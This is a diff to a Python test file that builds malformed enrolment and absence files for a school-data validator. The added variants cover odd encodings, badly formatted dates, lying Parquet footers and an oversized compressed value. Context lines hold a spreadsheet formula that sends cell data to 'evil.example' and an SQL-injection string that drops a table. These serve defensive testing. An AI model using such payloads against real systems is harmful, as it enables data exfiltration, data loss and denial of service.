@@ -19,6 +19,8 @@ import pyarrow as pa
 import pyarrow.csv as pacsv
 import pyarrow.parquet as pq
 
+from support.parquet_lies import lie_about_rows, lie_about_sizes
+
 ENROL = "enrolments.csv"
 ABSENT = "absences.csv"
 ENROL_PQ = "enrolments.parquet"
@@ -203,6 +205,20 @@ def _long_dictionary(t: pa.Table) -> pa.Table:
     return _replace(t, "reason", pa.array(["x" * 1_000_000] * t.num_rows))
 
 
+def _rows_lie(b: Base) -> list[tuple[str, bytes]]:
+    """The valid absence file whose footer says it has one row."""
+    return [(ENROL_PQ, parquet(b.table("enrol"))), (ABSENT_PQ, lie_about_rows(parquet(b.table("absent")), 1))]
+
+
+def _sizes_lie(b: Base) -> list[tuple[str, bytes]]:
+    """A 129 MiB reason in a few kB of zstd, the footer claiming 1,000 bytes."""
+    t = b.table("absent").slice(0, 1)
+    t = _replace(t, "reason", pa.array([b"x" * (129 << 20)], pa.binary()).cast(pa.string()))
+    buf = io.BytesIO()
+    pq.write_table(t, buf, compression="zstd")
+    return [(ENROL_PQ, parquet(b.table("enrol"))), (ABSENT_PQ, lie_about_sizes(buf.getvalue(), 1000))]
+
+
 LONG = "A" * 100_000
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 SQLTEXT = "1';DROP TABLE enrolment;--"
@@ -216,6 +232,15 @@ VARIANTS: list[Variant] = [
     Variant("gzip bytes named .csv", enrol_bytes(_gzip), ENROL, 0, "file", "gzip"),
     Variant("UTF-16 text", enrol_bytes(lambda b: b.enrol_csv().decode().encode("utf-16")),
             ENROL, 0, "file", "UTF-16"),
+    Variant("UTF-32 text", enrol_bytes(lambda b: b.enrol_csv().decode().encode("utf-32-le")),
+            ENROL, 0, "file", "UTF-32"),
+    Variant("UTF-32 text with its byte-order mark", enrol_bytes(lambda b: b.enrol_csv().decode().encode("utf-32")),
+            ENROL, 0, "file", "UTF-32 text"),
+    Variant("big-endian UTF-32 text with its byte-order mark",
+            absent_bytes(lambda b: b"\x00\x00\xfe\xff" + b.absent_csv().decode().encode("utf-32-be")),
+            ABSENT, 0, "file", "UTF-32 text"),
+    Variant("UTF-16 text without a byte-order mark", enrol_bytes(lambda b: b.enrol_csv().decode().encode("utf-16-be")),
+            ENROL, 0, "file", "UTF-16 text"),
     Variant("an Excel workbook named .csv", enrol_bytes(_zip), ENROL, 0, "file", "zip"),
     Variant("a Parquet file named .csv", enrol_bytes(lambda b: parquet(b.table("enrol"))),
             ENROL, 0, "file", "Parquet"),
@@ -270,6 +295,19 @@ VARIANTS: list[Variant] = [
     Variant("an end in words", enrol_cell(1, "enrolled_to", "ongoing"), ENROL, 1, "enrolled_to", "empty or a date"),
     Variant("a pupil number of 8 digits", enrol_cell(1, "pupil_number", "12345678"), ENROL, 1, "pupil_number", "11-test"),
     Variant("a pupil number failing the 11-test", enrol_cell(1, "pupil_number", "123456789"), ENROL, 1, "pupil_number", "11-test"),
+    Variant("an all-zero pupil number", enrol_cell(1, "pupil_number", "000000000"), ENROL, 1, "pupil_number", "11-test"),
+    Variant("a start date without zero padding", enrol_cell(1, "enrolled_from", "2025-9-1"), ENROL, 1,
+            "enrolled_from", "YYYY-MM-DD"),
+    Variant("a start date with a one-digit day", enrol_cell(1, "enrolled_from", "2025-09-1"), ENROL, 1,
+            "enrolled_from", "YYYY-MM-DD"),
+    Variant("an end date without zero padding", enrol_cell(1, "enrolled_to", "2026-7-1"), ENROL, 1,
+            "enrolled_to", "YYYY-MM-DD"),
+    Variant("a start date with slashes", enrol_cell(1, "enrolled_from", "2025/09/01"), ENROL, 1,
+            "enrolled_from", "YYYY-MM-DD"),
+    Variant("a start date without separators", enrol_cell(1, "enrolled_from", "20250901"), ENROL, 1,
+            "enrolled_from", "YYYY-MM-DD"),
+    Variant("a start date with a time", enrol_cell(1, "enrolled_from", "2025-09-01T00:00"), ENROL, 1,
+            "enrolled_from", "YYYY-MM-DD"),
     Variant("an empty pupil number", enrol_cell(1, "pupil_number", ""), ENROL, 1, "pupil_number", "11-test"),
     Variant("an exact duplicate enrolment", enrol_bytes(lambda b: b.enrol_csv(_duplicate_row(b.enrol))),
             ENROL, lambda b: len(b.enrol), "row", "exact duplicate of row 1"),
@@ -285,6 +323,10 @@ VARIANTS: list[Variant] = [
     Variant("hours in words", absent_cell(1, "hours", "veel"), ABSENT, 1, "hours", "hours > 0"),
     Variant("absence on a Saturday", absent_cell(1, "date", "2025-09-06"), ABSENT, 1, "date", "school day"),
     Variant("absence date in Dutch order", absent_cell(1, "date", "03-09-2025"), ABSENT, 1, "date", "school day"),
+    Variant("an absence date without zero padding", absent_cell(1, "date", "2025-9-3"), ABSENT, 1, "date", "YYYY-MM-DD"),
+    Variant("an absence date with a one-digit month", absent_cell(1, "date", "2025-9-03"), ABSENT, 1, "date", "YYYY-MM-DD"),
+    Variant("an all-zero absence pupil number", absent_cell(1, "pupil_number", "000000000"), ABSENT, 1,
+            "pupil_number", "11-test"),
     Variant("absence outside the school year", absent_cell(1, "date", "2024-09-03"), ABSENT, 1, "date", "school day"),
     Variant("an unknown reason", absent_cell(1, "reason", "holiday"), ABSENT, 1, "reason", "expected one of"),
     Variant("an empty reason", absent_cell(1, "reason", ""), ABSENT, 1, "reason", "expected one of"),
@@ -312,6 +354,9 @@ VARIANTS: list[Variant] = [
             ENROL_PQ, 0, "file", "Parquet"),
     Variant("CSV text named .parquet", lambda b: [(ENROL_PQ, b.enrol_csv()), (ABSENT_PQ, parquet(b.table("absent")))],
             ENROL_PQ, 0, "file", "Parquet"),
+    Variant("a Parquet footer that says 1 row of many", _rows_lie, ABSENT_PQ, 0, "pupil_number", "declares 1 rows"),
+    Variant("a Parquet footer claiming 1 kB for a 129 MiB value", _sizes_lie, ABSENT_PQ, 0, "reason",
+            "AANWEZIG_MAX_DECODED_BYTES"),
     Variant("40 Parquet columns", _pq("absent", lambda t: pa.table(
         {**{c: t.column(c) for c in t.column_names}, **{f"x{i}": t.column(0) for i in range(40)}})),
             ABSENT_PQ, 0, "file", "columns"),
